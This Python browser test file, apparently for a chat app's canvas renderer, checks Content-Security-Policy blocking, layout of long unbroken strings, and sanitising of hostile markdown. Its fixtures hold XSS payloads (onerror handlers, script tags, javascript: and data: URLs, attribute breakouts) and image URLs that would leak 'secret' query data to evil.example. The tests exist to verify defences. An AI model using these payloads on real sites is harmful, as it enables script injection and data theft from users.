"""Hostile canvas content in a real chromium: media from a host the server does not allow is never
fetched (the page's Content-Security-Policy), and long unbroken strings stay inside their card."""

from __future__ import annotations

from typing import Any

import pytest

from tests.browser.conftest import DEFAULT_TIMEOUT_MS, log_in

pytestmark = pytest.mark.browser

LONG = "W" * 600  # one unbroken "word", far wider than any card
LONG_URL = "https://example.test/" + "a" * 400


def render(page: Any, elements: list[dict[str, Any]]) -> None:
    """Draws `elements` with the page's own renderer in a canvas grid of its own beside the page's (which
    the page's socket keeps redrawing), with the same width and styles."""
    page.evaluate(
        """async (elements) => {
          const m = await import('/static/buddy/canvas.js');
          let root = document.getElementById('test-canvas');
          if (!root) {
            root = document.createElement('div');
            root.id = 'test-canvas';
            root.className = 'canvas';
            document.getElementById('canvas').after(root);
          }
          m.renderCanvas(root, {elements, theme: ''}, {});
        }""",
        elements,
    )


@pytest.fixture
def watched_page(browser: Any, live_server_url: str, user: Any) -> Any:
    """The logged-in page, recording Content-Security-Policy violations and requests to other hosts."""
    context = browser.new_context(viewport={"width": 1400, "height": 900}, locale="en-US")
    context.set_default_timeout(DEFAULT_TIMEOUT_MS)
    page = context.new_page()
    page.foreign_requests = []
    page.route(
        lambda url: not url.startswith(live_server_url),
        lambda route: (page.foreign_requests.append(route.request.url), route.abort()),
    )
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    log_in(page, live_server_url, "alice", "wonderland-pass-1")
    page.wait_for_function("() => document.getElementById('connection').dataset.status === 'open'")
    page.evaluate(
        """() => {
          window.__violations = [];
          document.addEventListener('securitypolicyviolation',
            (event) => window.__violations.push([event.violatedDirective, event.blockedURI]));
        }"""
    )
    yield page
    context.close()
    assert not errors, errors


def test_media_from_a_host_the_server_does_not_allow_is_never_fetched(watched_page):
    page = watched_page
    leak = "https://evil.example/pixel.png?conversation=secret"
    render(
        page,
        [
            {"type": "media", "id": "leak", "title": "Leak", "url": leak, "media_type": "image"},
            {
                "type": "media",
                "id": "clip",
                "title": "Clip",
                "url": "https://evil.example/x.mp4",
                "media_type": "video",
            },
            {"type": "media", "id": "own", "title": "Own", "url": "/static/buddy/favicon.svg", "media_type": "image"},
        ],
    )
    page.wait_for_function("() => document.querySelector('article[data-id=own] img').complete")
    page.wait_for_function("() => window.__violations.length >= 2")
    assert page.foreign_requests == []  # the browser never asked evil.example for anything
    directives = {directive for directive, _ in page.evaluate("window.__violations")}
    assert directives <= {"img-src", "media-src"}
    assert page.evaluate("document.querySelector('article[data-id=own] img').naturalWidth") > 0


def test_a_backslash_path_is_not_treated_as_same_site(watched_page):
    page = watched_page
    render(page, [{"type": "media", "id": "m", "title": "M", "url": "/\\evil.example/x.mp4", "media_type": "video"}])
    article = page.locator('article[data-id="m"]')
    assert "can't be shown" in article.inner_text() and article.locator("video").count() == 0
    assert page.foreign_requests == []


def test_the_page_runs_under_its_policy_without_violations(watched_page):
    page = watched_page
    render(
        page,
        [
            {
                "type": "chart",
                "id": "c",
                "title": "Chart",
                "chart_type": "bar",
                "labels": ["a", "b"],
                "series": [{"name": "s", "values": [1, 2]}],
            },
        ],
    )
    page.locator('article[data-id="c"] svg').wait_for()
    page.wait_for_timeout(300)
    assert page.evaluate("window.__violations") == []
    assert page.locator("#connection").get_attribute("data-status") == "open"  # the WebSocket is allowed


LONG_ELEMENTS = [
    {"type": "card", "id": "card-title", "title": LONG, "body": LONG},
    {"type": "card", "id": "card-code", "title": "Code", "body": f"`{LONG}` and a [{LONG}]({LONG_URL}) link"},
    {"type": "card", "id": "card-block", "title": "Block", "body": f"```\n{LONG}\n```"},
    {"type": "card", "id": "card-url", "title": "URL", "body": LONG_URL},
    {"type": "text", "id": "text", "title": LONG, "content": LONG},
    {"type": "table", "id": "table", "title": LONG, "columns": [LONG, "b"], "rows": [[LONG, LONG]]},
    {
        "type": "chart",
        "id": "chart",
        "title": LONG,
        "chart_type": "bar",
        "labels": [LONG, "b"],
        "series": [{"name": LONG, "values": [1, 2]}],
    },
    {"type": "media", "id": "media", "title": LONG, "url": "/static/buddy/favicon.svg", "media_type": "image"},
    {
        "type": "confirmation",
        "id": "ask",
        "title": LONG,
        "message": LONG,
        "confirm_label": "C" * 40,
        "cancel_label": "D" * 40,
    },
]


def test_long_unbroken_strings_stay_inside_their_card(watched_page):
    page = watched_page
    render(page, LONG_ELEMENTS)
    page.locator('article[data-id="ask"]').wait_for()
    overflowing = page.evaluate(
        """() => {
          const found = [];
          for (const card of document.querySelectorAll('#test-canvas article')) {
            const box = card.getBoundingClientRect();
            if (card.scrollWidth > card.clientWidth + 1) found.push([card.dataset.id, 'scrollWidth']);
            const clips = (node) => getComputedStyle(node).overflowX !== 'visible';
            for (const node of card.querySelectorAll('*')) {
              // Inside a region that scrolls or clips (a wide table, a code block, a chart), content
              // may be wider; what shows is that region's own box, checked in its turn.
              let clipped = false;
              for (let up = node.parentElement; up && up !== card; up = up.parentElement) {
                if (clips(up)) { clipped = true; break; }
              }
              if (clipped) continue;
              const rect = node.getBoundingClientRect();
              if (rect.width === 0 && rect.height === 0) continue;
              if (rect.left < box.left - 1 || rect.right > box.right + 1) {
                const name = typeof node.className === 'string' ? node.className : node.className.baseVal;
                found.push([card.dataset.id, `${node.tagName}.${name}`]);
              }
            }
          }
          return found;
        }"""
    )
    assert overflowing == [], overflowing
    # The cards do not draw over each other either.
    boxes = page.evaluate(
        "() => [...document.querySelectorAll('#test-canvas article')].map((a) => { const r = a.getBoundingClientRect();"
        " return [a.dataset.id, r.left, r.top, r.right, r.bottom]; })"
    )
    for index, (name, left, top, right, bottom) in enumerate(boxes):
        for other, o_left, o_top, o_right, o_bottom in boxes[index + 1 :]:
            assert right <= o_left or o_right <= left or bottom <= o_top or o_bottom <= top, (name, other)


FLAG = "buddyPwned"
HOSTILE_MARKDOWN = "\n".join(
    [
        "| name | note |",
        "| --- | --- |",
        f'| <img src=x onerror="window.{FLAG}=1"> | <script>window.{FLAG}=2</script> |',
        f"| [cell](javascript:window.{FLAG}=3) | ![pixel](https://evil.example/cell.png) |",
        "",
        f'```"><img src=x onerror="window.{FLAG}=4"> js',
        "code",
        "```",
        "",
        f'```js" onmouseover="window.{FLAG}=5',
        "more code",
        "```",
        "",
        f'[titled](https://example.test/ "x\\" onmouseover=\\"window.{FLAG}=6") '
        f"[styled](https://example.test/){{style=color:red}} ![leak](https://evil.example/p.png?q=secret) "
        f"[data](data:text/html,<script>window.{FLAG}=7</script>) [proto](//evil.example/x)",
        "",
        f'<a href="https://evil.example" style="position:fixed" onclick="window.{FLAG}=8">raw</a>',
    ]
)


def test_hostile_markdown_in_a_table_a_code_language_and_a_link_title_runs_nothing(watched_page):
    """Markdown's new paths (tables, a fence's language name, a link's title, images) in a card, in
    canvas text and in a reply: no script runs, no handler or style is kept, no other host is asked."""
    page = watched_page
    render(
        page,
        [
            {"type": "card", "id": "card", "title": "Card", "body": HOSTILE_MARKDOWN},
            {"type": "text", "id": "text", "title": "Text", "content": HOSTILE_MARKDOWN},
        ],
    )
    page.evaluate(
        """async (text) => {
          const m = await import('/static/buddy/conversation.js');
          const row = m.assistantMessage({name: 'Buddy', avatar: 'B'}, text, {messageId: 999});
          document.getElementById('conversation').append(row);
        }""",
        HOSTILE_MARKDOWN,
    )
    for where in (
        '#test-canvas article[data-id="card"]',
        '#test-canvas article[data-id="text"]',
        "[data-message-id='999']",
    ):
        box = page.locator(where)
        box.locator("table").wait_for()
        page.locator(f"{where} td").first.hover()
        page.locator(f"{where} pre").first.hover()
        page.locator(f"{where} a", has_text="titled").hover()
        assert box.locator("td").first.inner_text() == '<img src=x onerror="window.buddyPwned=1">'  # as text
        assert box.locator("script, img[src='x'], [style], iframe, object").count() == 0, where
        handlers = box.evaluate(
            "node => [...node.querySelectorAll('*')].flatMap(el => [...el.attributes].map(a => a.name))"
            ".filter(name => name.startsWith('on'))"
        )
        assert handlers == [], where
        hrefs = box.locator("a[href]").evaluate_all("links => links.map(a => a.getAttribute('href'))")
        assert all(href.startswith("https://") for href in hrefs), hrefs
        title = box.locator("a", has_text="titled").get_attribute("title")
        assert title == 'x" onmouseover="window.buddyPwned=6'  # the whole title, as text
        labels = box.locator(".code-lang").all_inner_texts()
        assert labels[0] == '"><img' and labels[1].startswith('js"'), labels  # the name, shown as text
        assert box.locator("img").count() == 0  # images from a host the page may not load are links
    page.wait_for_timeout(300)
    assert page.evaluate(f"window.{FLAG}") is None
    assert page.foreign_requests == []
    assert page.evaluate("window.__violations") == []
